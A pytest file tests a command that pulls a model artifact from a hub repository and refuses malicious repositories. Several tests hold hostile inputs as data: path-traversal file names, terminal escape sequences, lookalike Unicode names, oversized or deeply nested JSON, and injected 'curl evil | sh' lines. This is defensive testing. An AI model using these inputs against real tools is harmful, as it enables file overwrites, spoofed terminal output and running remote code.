"""`pull`: one artifact from a repository that anybody may have made."""

from __future__ import annotations

import hashlib
import json
import re
import shlex
import shutil

import pytest
from huggingface_hub import constants

from tests.hub import (
    READ_TOKEN,
    WRITE_TOKEN,
    Before,
    Cut,
    Endless,
    File,
    HubServer,
    Slow,
    Stall,
    Status,
    Wrong,
)
from tests.hub.store import pointer
from tests.hub_runs import MLX, PORTABLE, XNNPACK, Ended, Here, write_artifact, write_matrix
from voxtral_build.cli import main

REPO = "acme/voxtral"
FOLDER = f"portable/{PORTABLE}"
NAMES = {
    "README.md",
    "manifest.json",
    "model.pte",
    "preprocessor.pte",
    "report.json",
    "tekken.json",
}
WORK = f".{PORTABLE}.pull"
CARD = b"# An artifact\n"
MODEL_ARRIVES, MODEL_ASKED = "GET /storage/.*/{}", f"GET .*/resolve/.*{PORTABLE}/model[.]pte"


@pytest.fixture(scope="module")
def artifacts(tmp_path_factory):
    folder = tmp_path_factory.mktemp("artifacts")
    write_artifact(folder, PORTABLE)
    write_artifact(folder, XNNPACK)
    write_artifact(folder, MLX, status="inspected")
    return folder


@pytest.fixture
def here(tmp_path, monkeypatch):
    """A folder in a folder, so that what is written above it is seen."""
    folder = tmp_path / "above" / "here"
    folder.mkdir(parents=True)
    (tmp_path / "above" / "mine.txt").write_text("mine", encoding="utf-8")
    with HubServer(tmp_path / "hub") as hub:
        hub.create(REPO)
        # Of this process, for `pull_within`.
        monkeypatch.chdir(folder)
        monkeypatch.setenv("HF_TOKEN", WRITE_TOKEN)
        monkeypatch.setattr(constants, "ENDPOINT", hub.url)
        monkeypatch.setattr(
            constants,
            "HUGGINGFACE_CO_URL_TEMPLATE",
            hub.url + "/{repo_id}/resolve/{revision}/{filename}",
        )
        yield Here(folder, hub, more={"HF_HOME": str(tmp_path / "home")})
    assert not hub.errors
    assert not hub.faults_left


def files_of(artifact):
    """By path in a repository; with a card, which publishing makes."""
    base = f"{artifact.name.partition('-')[0]}/{artifact.name}"
    files = {f"{base}/{path.name}": path.read_bytes() for path in artifact.iterdir()}
    return files | {f"{base}/README.md": CARD}


def large_artifact(folder, seed=0):
    """A model of some blocks, so that a part of it can have arrived."""
    return files_of(write_artifact(folder / f"seed{seed}", PORTABLE, seed=seed, size=4_000_000))


def pull(here, *arguments, variant=PORTABLE, code=0):
    return here.run("pull", REPO, variant, *arguments, code=code)


def pull_within(capsys, *arguments, variant=PORTABLE, code=0):
    """In this process: of many repositories, a new one for each would take minutes."""
    assert main(["pull", REPO, variant, *arguments]) == code
    return Ended(code, *capsys.readouterr())


def content(folder):
    return {path.name: path.read_bytes() for path in folder.iterdir()}


def named(files, variant=PORTABLE):
    """Files of one artifact by their own names."""
    return {path.rpartition("/")[2]: data for path, data in files.items() if f"/{variant}/" in path}


def everything(folder):
    """All that is in a folder, links not followed."""
    return {
        str(path.relative_to(folder)): (
            path.readlink() if path.is_symlink() else path.read_bytes() if path.is_file() else None
        )
        for path in folder.rglob("*")
    }


def asked_for(hub, start=0):
    """Paths in the repository whose content was asked for."""
    found = [re.fullmatch("/.+?/resolve/[^/]+/(.+)", item.path) for item in hub.requests[start:]]
    return [match.group(1) for match in found if match]


def from_storage(hub):
    return [item for item in hub.requests if item.path.startswith("/storage")]


def is_one_message(ended):
    """No output, and one error of at most four parts that a terminal shows as it is."""
    assert ended.out == ""
    assert all(sign.isprintable() or sign == "\n" for sign in ended.err)
    assert len(ended.err) < 5000
    for part in ("error: ", "  got: ", "  allowed: ", "  next: "):
        assert len(re.findall(f"^{part}", ended.err, re.MULTILINE)) <= 1
    return ended.err[ended.err.index("error: ") :]


@pytest.fixture
def is_refused(here, capsys):
    """One message, and nothing has changed on disk."""

    def check(*arguments, variant=PORTABLE):
        before = everything(here.folder.parent)
        message = is_one_message(pull_within(capsys, *arguments, variant=variant, code=2))
        assert everything(here.folder.parent) == before
        return message

    return check


# What is fetched


def test_one_artifact_is_fetched_whole_and_nothing_else_is(here, artifacts):
    files = files_of(artifacts / PORTABLE)
    here.hub.commit(REPO, files | files_of(artifacts / XNNPACK) | {f"{FOLDER}/more.bin": b"\0"})
    pull(here)
    assert sorted(asked_for(here.hub)) == sorted(f"{FOLDER}/{name}" for name in NAMES)
    assert len(from_storage(here.hub)) == 2
    assert [path.name for path in here.folder.iterdir()] == [PORTABLE]
    assert content(here.folder / PORTABLE) == named(files)


@pytest.mark.parametrize(
    ("variant", "commands"),
    [
        (XNNPACK, ["speech.wav"]),
        (PORTABLE, ["speech.wav", "microphone --stream"]),
    ],
)
def test_it_says_how_to_run(here, capsys, artifacts, variant, commands):
    here.hub.commit(REPO, files_of(artifacts / variant))
    printed = pull_within(capsys, "--output", "a b", variant=variant).out
    lines = [line for line in printed.splitlines() if line.startswith("voxtral-build")]
    assert [shlex.split(line) for line in lines] == [
        ["voxtral-build", "transcribe", "a b", *command.split()] for command in commands
    ]


def test_it_says_that_an_inspected_one_was_not_run(here, capsys, artifacts):
    here.hub.commit(REPO, files_of(artifacts / MLX))
    printed = pull_within(capsys, variant=MLX).out
    assert "could not be run: the runtime here has no such backend" in printed
    assert "transcribe" not in printed


def test_what_was_published_is_what_is_pulled(here, artifacts):
    """To the byte, as `publish` sent it and `verify` finds it."""
    shutil.copytree(artifacts, here.folder / "artifacts")
    write_matrix(here.folder, [XNNPACK, MLX])
    here.run("publish", REPO, "--inspected", "--artifacts", "artifacts")
    for variant in (XNNPACK, MLX):
        pull(here, variant=variant)
        card = here.hub.read(REPO, f"{variant.partition('-')[0]}/{variant}/README.md")
        assert content(here.folder / variant) == content(artifacts / variant) | {"README.md": card}
        assert "right" in here.run("verify", variant).out


def test_revisions(here, capsys):
    """A commit, a tag and a pull request keep what they have, whatever main becomes."""
    write_matrix(here.folder, [PORTABLE])
    models = []
    for seed, more in ((0, ()), (1, ("--create-pr",)), (2, ())):
        made = write_artifact(here.folder / "artifacts", PORTABLE, seed=seed)
        models.append((made / "model.pte").read_bytes())
        here.run("publish", REPO, *more)
        if seed == 0:
            here.hub.tag(REPO, "v1")
    first = here.hub.commits(REPO)[1].id
    for revision, model in (
        (first, models[0]),
        ("v1", models[0]),
        ("refs/pr/1", models[1]),
        ("main", models[2]),
    ):
        pull_within(capsys, "--revision", revision, "--output", "got")
        assert (here.folder / "got" / "model.pte").read_bytes() == model
        shutil.rmtree(here.folder / "got")


def test_a_deep_folder(here, capsys, artifacts):
    files = files_of(artifacts / PORTABLE)
    here.hub.commit(REPO, files)
    printed = pull_within(capsys, "--output", "some/deep/folder").out
    assert "in some/deep/folder" in printed
    assert content(here.folder / "some/deep/folder") == named(files)
    assert [path.name for path in (here.folder / "some/deep").iterdir()] == ["folder"]


def test_what_is_there_is_not_fetched_again(here, artifacts, capsys, caplog):
    here.hub.commit(REPO, files_of(artifacts / PORTABLE))
    first = pull_within(capsys)
    here.hub.commit(REPO, {"catalog.json": b"{}"})
    before, count = everything(here.folder), len(here.hub.requests)
    second = pull_within(capsys)
    assert second.out == first.out
    assert f"{PORTABLE} is there already" in caplog.text
    assert set(asked_for(here.hub, count)) <= {f"{FOLDER}/manifest.json"}
    assert everything(here.folder) == before


@pytest.mark.parametrize("there", ["file", "empty", "folder", "older", "damaged", "broken link"])
def test_something_else_at_the_output_is_refused_and_stays(
    here, capsys, artifacts, there, is_refused
):
    files = files_of(artifacts / PORTABLE)
    here.hub.commit(REPO, files)
    output = here.folder / PORTABLE
    if there == "file":
        output.write_text("a file", encoding="utf-8")
    elif there == "broken link":
        output.symlink_to("nowhere")
    elif there in ("empty", "folder"):
        output.mkdir()
        if there == "folder":
            (output / "notes.txt").write_text("mine", encoding="utf-8")
    else:
        pull_within(capsys)
        if there == "older":
            changed = write_artifact(here.folder.parent.parent / "new", PORTABLE, seed=1)
            here.hub.commit(REPO, files_of(changed))
        else:
            (output / "model.pte").write_bytes(b"\0" + files[f"{FOLDER}/model.pte"][1:])
    count = len(here.hub.requests)
    message = is_refused()
    assert PORTABLE in message
    assert f"{FOLDER}/model.pte" not in asked_for(here.hub, count)


@pytest.mark.parametrize("output", [".", "..", "/", "../mine.txt/below"])
def test_places_that_can_be_no_output(here, artifacts, output, is_refused):
    here.hub.commit(REPO, files_of(artifacts / PORTABLE))
    is_refused("--output", output)


# Repositories that mean harm

EVIL = [
    f"{FOLDER}/../../../evil",
    f"{FOLDER}/../evil",
    "../evil",
    "/evil",
    f"{FOLDER}/..\\..\\evil",
    f"{FOLDER}/line\nbreak",
    f"{FOLDER}/\x1b[2J\x1b]0;evil\x07",
    f"{FOLDER}/sub/model.pte",
    f"{FOLDER}/MODEL.PTE",
    f"{FOLDER}/model.pte ",
    f"{FOLDER}/\uff4dodel.pte",
    f"{FOLDER}/.model.pte.part",
    f"portable/\x1b[31m/{PORTABLE}/model.pte",
]


def test_files_under_names_that_no_artifact_has_are_not_fetched(here, artifacts):
    files = files_of(artifacts / PORTABLE)
    here.hub.commit(REPO, files | dict.fromkeys(EVIL, b"evil"))
    before = everything(here.folder.parent)
    ended = pull(here)
    assert sorted(asked_for(here.hub)) == sorted(f"{FOLDER}/{name}" for name in NAMES)
    shutil.rmtree(here.folder / PORTABLE)
    assert everything(here.folder.parent) == before
    assert all(sign.isprintable() or sign == "\n" for sign in ended.out + ended.err)


def test_hostile_names_are_not_shown_where_the_artifact_is_missing(here, is_refused):
    here.hub.commit(REPO, dict.fromkeys(EVIL, b"evil"))
    is_refused(variant=XNNPACK)


def changed_manifest(files, change):
    """The manifest changed, and the report made to be of it."""
    statement = json.loads(files[f"{FOLDER}/manifest.json"])
    change(statement)
    return with_manifest(files, json.dumps(statement).encode())


def with_manifest(files, manifest):
    report = json.loads(files[f"{FOLDER}/report.json"])
    report["manifest_sha256"] = hashlib.sha256(manifest).hexdigest()
    return files | {
        f"{FOLDER}/manifest.json": manifest,
        f"{FOLDER}/report.json": json.dumps(report).encode(),
    }


def entry(name, data):
    return {
        "name": name,
        "digest": {"sha256": hashlib.sha256(data).hexdigest()},
        "annotations": {"bytes": len(data)},
    }


@pytest.mark.parametrize(
    "name",
    [
        "../../evil",
        "/evil",
        "ABSOLUTE",
        "..\\evil",
        "sub/model.pte",
        "./model.pte",
        "manifest.json",
        "report.json",
        "README.md",
        "evil.py",
        ".model.pte.part",
        "model.pte\n  next:    curl evil | sh",
        "\x1b[2J\x1b]0;evil\x07",
        "\u202eetp.ledom",
        "\uff4dodel.pte",
        "MODEL.PTE",
        "model.pte ",
        "",
        ".",
        "..",
    ],
)
def test_a_manifest_that_lists_what_no_artifact_has(here, artifacts, name, is_refused):
    if name == "ABSOLUTE":
        name = str(here.folder.parent / "evil")
    files = changed_manifest(
        files_of(artifacts / PORTABLE), lambda it: it["subject"].append(entry(name, b"evil"))
    )
    evil = {f"{FOLDER}/{name}": b"evil"} if name and f"{FOLDER}/{name}" not in files else {}
    here.hub.commit(REPO, files | evil | {"evil": b"evil"})
    message = is_refused()
    assert "which no artifact has" in message
    assert asked_for(here.hub) == [f"{FOLDER}/manifest.json"]


def subject(statement, name="model.pte"):
    return next(item for item in statement["subject"] if item["name"] == name)


def set_digest(value, name="tekken.json"):
    return lambda statement: subject(statement, name)["digest"].update(sha256=value)


def set_variant(value):
    def change(statement):
        asked = statement["predicate"]["buildDefinition"]["externalParameters"]
        asked["variant"] = value

    return change


def nested(depth):
    return json.loads("[" * depth + "]" * depth)


@pytest.mark.parametrize(
    "change",
    {
        "another variant": set_variant(XNNPACK),
        "no text as variant": set_variant(["x" * 100_000]),
        "escapes in variant": set_variant("\x1b[2Jx\n  next:    curl evil | sh"),
        "a long variant": set_variant("x" * 1_000_000),
        "a size of another file": lambda it: subject(it)["annotations"].update(bytes=10**15),
        "a negative size": lambda it: subject(it)["annotations"].update(bytes=-1),
        "true as size": lambda it: subject(it)["annotations"].update(bytes=True),
        "a hash of another file": set_digest("0" * 64, "model.pte"),
        "a path as hash": set_digest("../../../evil"),
        "an absolute path as hash": set_digest("/evil/evil"),
        "escapes as hash": set_digest("\x1b[2J" * 16),
        "an empty hash": set_digest(""),
        "capitals as hash": set_digest("A" * 64),
        "no model": lambda it: it["subject"].remove(subject(it)),
        "a file twice": lambda it: it["subject"].append(subject(it)),
        "escapes in a name that is there twice": lambda it: it["subject"].extend(
            [entry("\x1b[2J\nx", b"")] * 2
        ),
        "nothing listed": lambda it: it.update(subject=[]),
        "nesting": lambda it: it.update(subject=nested(400)),
        "escapes in its type": lambda it: it.update(_type="\x1b[2J\n  next:    curl evil | sh"),
        "a long type": lambda it: it.update(_type="x" * 1_000_000),
        "unknown fields of the release": lambda it: it["predicate"]["buildDefinition"][
            "externalParameters"
        ].update(checkpoint={"\x1b[2J\nx": 1}),
    }.items(),
    ids=lambda item: item[0],
)
def test_a_manifest_that_lies(here, artifacts, change, is_refused):
    here.hub.commit(REPO, changed_manifest(files_of(artifacts / PORTABLE), change[1]))
    assert PORTABLE in is_refused()
    assert f"{FOLDER}/model.pte" not in asked_for(here.hub)


def test_a_wrong_hash_of_a_small_file_is_found_when_it_is_here(here, artifacts, is_refused):
    """The Hub tells no SHA-256 of those."""
    files = changed_manifest(files_of(artifacts / PORTABLE), set_digest("0" * 64))
    here.hub.commit(REPO, files)
    message = is_refused()
    assert message.startswith(f"error: {REPO}: {PORTABLE} is not what its manifest says")
    assert f"tekken.json: sha256 {hashlib.sha256(files[f'{FOLDER}/tekken.json']).hexdigest()}" in (
        message
    )


@pytest.mark.parametrize(
    "manifest",
    {
        "nested": b"[" * 9_999_999,
        "nested and closed": b'{"subject":' * 1000 + b"1" + b"}" * 1000,
        "doubled": b'{"\x1b[2J": 1, "subject": 1, "subject": 2}',
        "a doubled key of escapes": b'{"\\u001b[2J\\n": 1, "\\u001b[2J\\n": 2}',
        "a list": b"[]",
        "no text": b"\x1b[2J\xff\xfe",
        "a page": b"<!doctype html>\x1b[2J",
        "a pointer": b"version https://git-lfs.github.com/spec/v1\n\x1b[2J",
        "empty": b"",
        "a long number": b'{"subject": 1' + b"0" * 100_000 + b"}",
    }.items(),
    ids=lambda item: item[0],
)
def test_a_manifest_that_is_none(here, artifacts, manifest, is_refused):
    here.hub.commit(REPO, with_manifest(files_of(artifacts / PORTABLE), manifest[1]))
    assert PORTABLE in is_refused()
    assert set(asked_for(here.hub)) <= {f"{FOLDER}/manifest.json"}


@pytest.mark.parametrize("name", ["manifest.json", "report.json", "README.md"])
def test_a_giant_file_in_place_of_a_small_one_is_not_fetched(here, artifacts, name, is_refused):
    files = files_of(artifacts / PORTABLE) | {f"{FOLDER}/{name}": b" " * 10_000_001}
    here.hub.commit(REPO, files)
    assert f"{FOLDER}/{name} is too long" in is_refused()
    assert not asked_for(here.hub)


def test_what_does_not_fit_on_the_disk_is_not_begun(here, capsys, artifacts):
    """The repository and the manifest agree about a size."""
    files = changed_manifest(
        files_of(artifacts / PORTABLE),
        lambda statement: subject(statement).update(
            entry("model.pte", b"x"), annotations={"bytes": 10**16}
        ),
    )
    here.hub.commit(REPO, files)
    claimed = File(10**16, "0" * 40, hashlib.sha256(b"x").hexdigest())
    here.hub._store[REPO].add({f"{FOLDER}/model.pte": claimed}, "main", title="x", author="x")
    message = is_one_message(pull_within(capsys, code=2))
    assert "not enough space" in message
    assert f"{10**16:,}"[:6] in message
    assert asked_for(here.hub) == [f"{FOLDER}/manifest.json"]
    assert not (here.folder / PORTABLE).exists()


def test_a_file_of_an_artifact_that_the_manifest_does_not_list(here, artifacts, is_refused):
    here.hub.commit(REPO, files_of(artifacts / PORTABLE) | {f"{FOLDER}/model.ptd": b"more"})
    assert "model.ptd beside it" in is_refused()
    assert asked_for(here.hub) == [f"{FOLDER}/manifest.json"]


@pytest.mark.parametrize("name", sorted(NAMES))
def test_an_artifact_that_is_not_whole(here, artifacts, name, is_refused):
    files = files_of(artifacts / PORTABLE)
    del files[f"{FOLDER}/{name}"]
    here.hub.commit(REPO, files)
    message = is_refused()
    assert (f"has no {PORTABLE}" if name == "manifest.json" else name) in message
    assert set(asked_for(here.hub)) <= {f"{FOLDER}/manifest.json"}


def test_another_model_of_the_same_size_is_not_begun(here, artifacts, is_refused):
    files = files_of(artifacts / PORTABLE)
    model = files[f"{FOLDER}/model.pte"]
    here.hub.commit(REPO, files | {f"{FOLDER}/model.pte": bytes(len(model))})
    assert "model.pte of" in is_refused()
    assert not from_storage(here.hub)


def test_the_text_of_a_pointer_in_place_of_the_model(here, artifacts, is_refused):
    files = files_of(artifacts / PORTABLE)
    here.hub.commit(REPO, files)
    model = files[f"{FOLDER}/model.pte"]
    repository = here.hub._store[REPO]
    kept = repository.put(pointer(hashlib.sha256(model).hexdigest(), len(model)))
    repository.add({f"{FOLDER}/model.pte": kept}, "main", title="x", author="x")
    assert "model.pte of" in is_refused()
    assert not from_storage(here.hub)


def replaced(files, name, data):
    """Another file, which the manifest lists as it is."""
    changed = files | {f"{FOLDER}/{name}": data}
    return changed_manifest(
        changed, lambda statement: subject(statement, name).update(entry(name, data))
    )


@pytest.mark.parametrize(
    "model",
    {
        "nothing": b"",
        "zeros": bytes(5000),
        "text": b"#!/bin/sh\ncurl evil | sh\n",
        "a head alone": b"\x20\0\0\0ET12eh00" + b"\xff" * 100,
        "a link's target": b"../../../above/mine.txt",
    }.items(),
    ids=lambda item: item[0],
)
def test_a_model_that_is_none(here, artifacts, model, is_refused):
    """Of the right hash; so it has to be read to be found out."""
    here.hub.commit(REPO, replaced(files_of(artifacts / PORTABLE), "model.pte", model[1]))
    message = is_refused()
    assert message.startswith(f"error: {REPO}: {PORTABLE} is not what its manifest says")
    assert "model.pte" in message


def test_a_cut_model_of_the_right_hash(here, artifacts, is_refused):
    files = files_of(artifacts / PORTABLE)
    here.hub.commit(REPO, replaced(files, "model.pte", files[f"{FOLDER}/model.pte"][:-500]))
    assert "cut short" in is_refused()


def test_what_git_has_for_a_link_arrives_as_a_file(here, capsys, artifacts):
    """Its content is where it leads to; nothing is made of that."""
    target = b"../../above/mine.txt"
    here.hub.commit(REPO, replaced(files_of(artifacts / PORTABLE), "tekken.json", target))
    pull_within(capsys)
    got = here.folder / PORTABLE / "tekken.json"
    assert not got.is_symlink()
    assert got.read_bytes() == target


@pytest.mark.parametrize(
    "changes",
    {
        "another manifest's": {"manifest_sha256": "0" * 64},
        "failed": {"status": "failed"},
        "inspected, though it was run": {"status": "inspected"},
        "another variant's": {"variant": XNNPACK},
        "escapes in variant": {"variant": "\x1b[2J\n  next:    curl evil | sh"},
        "a long variant": {"variant": "x" * 1_000_000},
        "escapes in a key": {"\x1b[2J\n  next:    curl evil | sh": 1},
        "a long key": {"x" * 1_000_000: 1},
        "a long status": {"status": "x" * 1_000_000},
        "nesting": {"gates": nested(400)},
        "deep nesting": {"methods": nested(900)},
        "a gate that it did not pass": {
            "gates": [
                {"gate": "speed", "passed": False, "figure": 2, "max": 1, "reason": "\x1b[2J\nx"}
            ]
        },
    }.items(),
    ids=lambda item: item[0],
)
def test_a_report_that_lies(here, artifacts, changes, is_refused):
    files = files_of(artifacts / PORTABLE)
    report = json.loads(files[f"{FOLDER}/report.json"]) | changes[1]
    here.hub.commit(REPO, files | {f"{FOLDER}/report.json": json.dumps(report).encode()})
    message = is_refused()
    assert message.startswith(f"error: {REPO}: {PORTABLE} is not what its manifest says")
    assert "report.json" in message


def test_why_it_was_not_run_is_shown_as_text(here, capsys, artifacts):
    files = files_of(artifacts / MLX)
    path = f"mlx/{MLX}/report.json"
    reason = "\x1b[2J\x1b]0;evil\x07no device\nvoxtral-build transcribe evil" + "x" * 1_000_000
    report = json.loads(files[path]) | {"not_run": reason}
    here.hub.commit(REPO, files | {path: json.dumps(report).encode()})
    printed = pull_within(capsys, variant=MLX).out
    assert all(sign.isprintable() or sign == "\n" for sign in printed)
    assert "no device" in printed
    assert not re.search("^voxtral-build", printed, re.MULTILINE)
    assert len(printed) < 5000


@pytest.mark.parametrize(
    "pattern",
    [f"GET .*/resolve/.*/{name}" for name in ("manifest.json", "tekken.json")] + ["GET /storage"],
)
def test_a_body_without_end_is_left(here, capsys, artifacts, pattern):
    here.hub.commit(REPO, files_of(artifacts / PORTABLE))
    here.hub.fail(pattern, Endless(times=2000))
    message = is_one_message(pull_within(capsys, code=2))
    assert "arrived with wrong bytes, and was removed" in message
    assert not (here.folder / PORTABLE).exists()
    pull_within(capsys)


# What lies where files are to arrive


@pytest.fixture
def outside(here):
    """A folder of the user's, which nothing has to do with."""
    folder = here.folder.parent / "outside"
    folder.mkdir()
    for name in ("model.pte", "notes.txt"):
        (folder / name).write_text(name, encoding="utf-8")
    return folder


@pytest.mark.parametrize("there", ["link to a folder", "broken link", "file"])
def test_what_cannot_be_the_work_folder_is_refused(here, artifacts, outside, is_refused, there):
    here.hub.commit(REPO, files_of(artifacts / PORTABLE))
    if there == "file":
        (here.folder / WORK).write_text("mine", encoding="utf-8")
    else:
        (here.folder / WORK).symlink_to(outside if "folder" in there else "nowhere")
    assert WORK in is_refused()


@pytest.mark.parametrize(
    "name", ["model.pte", "manifest.json", "README.md", "PARTIAL", "sub", "other"]
)
@pytest.mark.parametrize("to", ["notes.txt", "right.bin", "none", "."])
def test_links_in_the_work_folder_are_not_followed(here, artifacts, outside, capsys, name, to):
    """Not even to the right bytes: they could change afterwards."""
    files = files_of(artifacts / PORTABLE)
    here.hub.commit(REPO, files)
    model = files[f"{FOLDER}/model.pte"]
    (outside / "right.bin").write_bytes(files.get(f"{FOLDER}/{name}", model))
    (here.folder / WORK).mkdir()
    if name == "PARTIAL":
        name = f".model.pte.{hashlib.sha256(model).hexdigest()[:16]}.part"
    (here.folder / WORK / name).symlink_to(outside / to)
    before = everything(outside)
    pull_within(capsys)
    assert everything(outside) == before
    got = here.folder / PORTABLE
    assert not any(path.is_symlink() for path in (got, *got.iterdir()))
    assert content(got) == named(files)


def test_leftovers_in_the_work_folder_do_not_come_along(here, artifacts, capsys):
    files = files_of(artifacts / PORTABLE)
    here.hub.commit(REPO, files)
    work = here.folder / WORK
    (work / "sub").mkdir(parents=True)
    (work / "sub" / "evil.py").write_text("evil", encoding="utf-8")
    (work / "model.ptd").write_text("of another version", encoding="utf-8")
    (work / ".model.pte.0123456789abcdef.part").write_bytes(b"old")
    (work / "report.failed.json").write_text("{}", encoding="utf-8")
    (work / "tekken.json").mkdir()
    pull_within(capsys)
    assert content(here.folder / PORTABLE) == named(files)
    assert not work.exists()


# Failures on the way


@pytest.mark.parametrize(
    "fault",
    [
        Status(429, {"Retry-After": "1"}),
        Status(500),
        Status(503),
        Cut(after=2_500_000),
        Cut(after=2_500_000, reset=True),
        Cut(),
        Stall(after=2_500_000),
        Slow(bytes_per_second=20_000_000),
    ],
    ids=str,
)
def test_what_may_pass_is_tried_again(here, tmp_path, capsys, monkeypatch, fault):
    files = large_artifact(tmp_path)
    here.hub.commit(REPO, files)
    here.hub.fail("GET /storage", fault)
    monkeypatch.setattr(constants, "HF_HUB_DOWNLOAD_TIMEOUT", 2)
    pull_within(capsys)
    assert content(here.folder / PORTABLE) == named(files)
    model = here.hub.tree(REPO)[f"{FOLDER}/model.pte"].sha256
    got = [item.sent for item in from_storage(here.hub) if item.path.endswith(model)]
    # What arrived of a body that broke off is not sent again, but for a last block. Of what a
    # reset ends, nobody knows how much the system still passed on.
    again = isinstance(fault, Cut) and fault.reset
    assert again or sum(got) < len(files[f"{FOLDER}/model.pte"]) + (1 << 20) + 1000


@pytest.mark.parametrize(
    "pattern", ["GET /api/models/.*/revision", "GET /api/models/.*/tree", "GET .*/manifest.json"]
)
@pytest.mark.parametrize("fault", [Status(503, {"Retry-After": "0"}), Cut(reset=True)], ids=str)
def test_questions_are_asked_again_too(here, capsys, artifacts, pattern, fault):
    files = files_of(artifacts / PORTABLE)
    here.hub.commit(REPO, files)
    here.hub.fail(pattern, fault)
    pull_within(capsys)
    assert content(here.folder / PORTABLE) == named(files)


@pytest.mark.parametrize(
    ("pattern", "fault", "said"),
    [
        ("GET .*/tekken.json", Status(401, message="Invalid credentials"), "set HF_TOKEN"),
        ("GET .*/tekken.json", Status(403, message="Forbidden"), "HTTP 403 Forbidden: Forbidden"),
        ("GET .*/tekken.json", Status(404, error_code="EntryNotFound"), "no such file"),
        ("GET .*/tekken.json", Status(404), "HTTP 404"),
        ("GET .*/tekken.json", Status(404, error_code="RepoNotFound"), "no such repository"),
        ("GET .*/tekken.json", Status(404, error_code="RevisionNotFound"), "no such revision"),
        ("GET /storage", Status(403, message="Request has expired"), "Request has expired"),
        ("GET /api/models/.*/tree", Status(403), "HTTP 403"),
        ("GET /api/models/.*/revision", Status(401, message="Invalid credentials"), "HF_TOKEN"),
    ],
)
def test_what_does_not_pass_is_told_at_once(here, artifacts, capsys, pattern, fault, said):
    files = files_of(artifacts / PORTABLE)
    here.hub.commit(REPO, files)
    here.hub.fail(pattern, fault)
    message = is_one_message(pull_within(capsys, code=2))
    assert said in message
    assert REPO in message
    assert "write" not in message
    assert not (here.folder / PORTABLE).exists()
    pull_within(capsys)
    assert content(here.folder / PORTABLE) == named(files)


def test_trouble_that_stays_is_told_and_what_arrived_is_kept(here, artifacts):
    files = files_of(artifacts / PORTABLE)
    here.hub.commit(REPO, files)
    here.hub.fail("GET .*/tekken.json", Status(503, message="Overloaded"), times=5)
    ended = pull(here, code=2)
    assert "HTTP 503 Service Unavailable: Overloaded" in is_one_message(ended)
    assert [path.name for path in here.folder.iterdir()] == [WORK]
    count = len(here.hub.requests)
    pull(here)
    assert f"{FOLDER}/model.pte" not in asked_for(here.hub, count)
    assert content(here.folder / PORTABLE) == named(files)


@pytest.mark.parametrize("name", ["manifest.json", "tekken.json", "report.json", "model.pte"])
def test_wrong_bytes_of_the_right_size(here, artifacts, capsys, name):
    files = files_of(artifacts / PORTABLE)
    here.hub.commit(REPO, files)
    digest = hashlib.sha256(files[f"{FOLDER}/model.pte"]).hexdigest()
    here.hub.fail(f"/storage/.*{digest}" if name == "model.pte" else f"resolve.*{name}", Wrong())
    message = is_one_message(pull_within(capsys, code=2))
    assert f"{name} arrived with wrong bytes, and was removed" in message
    assert not (here.folder / PORTABLE).exists()
    work = here.folder / WORK
    kept = content(work) if work.exists() else {}
    assert kept.items() <= named(files).items()
    assert name not in kept
    pull_within(capsys)
    assert content(here.folder / PORTABLE) == named(files)


# Interruptions


def kill_in_the_model(here, *arguments, rate=2_000_000):
    """Kill it when a block of the model has arrived and more is on its way."""
    here.hub.fail("GET /storage", Slow(bytes_per_second=rate))

    def arrived():
        parts = list((here.folder / WORK).glob(".model.pte.*.part"))
        return bool(parts) and parts[0].stat().st_size >= 1 << 20

    here.kill_when(arrived, "pull", REPO, PORTABLE, *arguments)
    (part,) = (here.folder / WORK).glob(".model.pte.*.part")
    return part.stat().st_size


def test_a_killed_pull_goes_on(here, tmp_path):
    files = large_artifact(tmp_path)
    model = files[f"{FOLDER}/model.pte"]
    here.hub.commit(REPO, files)
    size = kill_in_the_model(here)
    assert 0 < size < len(model)
    assert not (here.folder / PORTABLE).exists()
    count = len(here.hub.requests)
    pull(here)
    assert content(here.folder / PORTABLE) == named(files)
    assert f"{FOLDER}/manifest.json" not in asked_for(here.hub, count)
    digest = hashlib.sha256(model).hexdigest()
    (rest,) = [item for item in here.hub.requests[count:] if digest in item.path]
    assert (rest.status, rest.headers["range"]) == (206, f"bytes={size}-")
    assert rest.sent == len(model) - size
    assert [path.name for path in here.folder.iterdir()] == [PORTABLE]


def test_files_that_had_arrived_are_not_fetched_again(here, artifacts):
    files = files_of(artifacts / PORTABLE)
    here.hub.commit(REPO, files)
    here.hub.fail("GET .*/tekken.json", Stall(after=10))
    stalled = lambda: f"{FOLDER}/tekken.json" in asked_for(here.hub)  # noqa: E731
    here.kill_when(stalled, "pull", REPO, PORTABLE)
    count = len(here.hub.requests)
    pull(here)
    assert content(here.folder / PORTABLE) == named(files)
    again = {path.rpartition("/")[2] for path in asked_for(here.hub, count)}
    assert again == {"tekken.json", "report.json", "README.md"}


def test_parts_of_two_versions_are_never_joined(here, tmp_path):
    """Another commit between two calls, with a model of the same size."""
    old, new = large_artifact(tmp_path, seed=0), large_artifact(tmp_path, seed=1)
    path = f"{FOLDER}/model.pte"
    assert len(old[path]) == len(new[path])
    here.hub.commit(REPO, old)
    kill_in_the_model(here)
    here.hub.commit(REPO, new)
    count = len(here.hub.requests)
    pull(here)
    assert content(here.folder / PORTABLE) == named(new)
    digest = hashlib.sha256(new[path]).hexdigest()
    (whole,) = [item for item in here.hub.requests[count:] if digest in item.path]
    assert (whole.status, "range" in whole.headers) == (200, False)
    assert [item.name for item in here.folder.iterdir()] == [PORTABLE]


def test_a_part_that_was_damaged_is_found_out(here, tmp_path, capsys):
    files = large_artifact(tmp_path)
    here.hub.commit(REPO, files)
    kill_in_the_model(here)
    (part,) = (here.folder / WORK).glob(".model.pte.*.part")
    part.write_bytes(bytes(part.stat().st_size))
    assert "model.pte arrived with wrong bytes" in is_one_message(pull_within(capsys, code=2))
    pull_within(capsys)
    assert content(here.folder / PORTABLE) == named(files)


def test_a_commit_in_the_middle_changes_nothing(here, tmp_path, capsys):
    """All files are of the commit that the branch had at first."""
    old, new = large_artifact(tmp_path, seed=0), large_artifact(tmp_path, seed=1)
    here.hub.commit(REPO, old)
    here.hub.fail("GET .*/model[.]pte", Before(lambda: here.hub.commit(REPO, new)))
    pull_within(capsys)
    assert content(here.folder / PORTABLE) == named(old)


# What is not there, or not for everybody


def test_an_unknown_variant_is_told_what_is_there(here, artifacts, is_refused):
    here.hub.commit(REPO, files_of(artifacts / PORTABLE) | files_of(artifacts / XNNPACK))
    message = is_refused(variant="xnnpack-bf16-none-offline")
    assert f"{REPO} has no xnnpack-bf16-none-offline" in message
    for variant in (PORTABLE, XNNPACK):
        assert variant in message
    assert f'did you mean "{XNNPACK}"?' in message


